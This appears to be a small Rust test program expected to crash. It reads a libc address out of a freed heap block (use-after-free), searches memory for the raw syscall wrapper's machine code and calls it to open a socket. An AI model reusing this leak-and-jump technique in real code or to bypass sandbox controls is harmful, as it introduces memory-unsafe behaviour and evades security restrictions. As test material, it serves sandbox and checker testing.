//! Finds the C library from the heap, and in it the function that makes any system call.
// Ends: crashed

// A freed block of this size points into the C library; that function's code is sought below there.
use std::alloc::{alloc, dealloc, Layout};

const CODE: &[u8] = b"\x48\x89\xf8\x48\x89\xf7\x48\x89\xd6\x48\x89\xca\x4d\x89\xc2\x4d\x89\xc8";

fn main() {
    unsafe {
        let layout = Layout::from_size_align(4_000, 8).unwrap();
        let (block, _fence) = (alloc(layout), alloc(layout));
        dealloc(block, layout);
        let library = block.cast::<*const u8>().read_volatile();
        let start = library.wrapping_sub(1_900_000);
        let bytes = std::slice::from_raw_parts(start, 1_800_000);
        let place = std::str::from_utf8_unchecked(bytes)
            .find(std::str::from_utf8_unchecked(std::hint::black_box(CODE)));
        let place = place.unwrap_or_else(|| std::process::abort());
        let system_call: extern "C" fn(u64, u64, u64, u64) -> i64 =
            std::mem::transmute(start.add(place));
        // A socket.
        println!("{}", system_call(41, 2, 1, 0));
    }
}
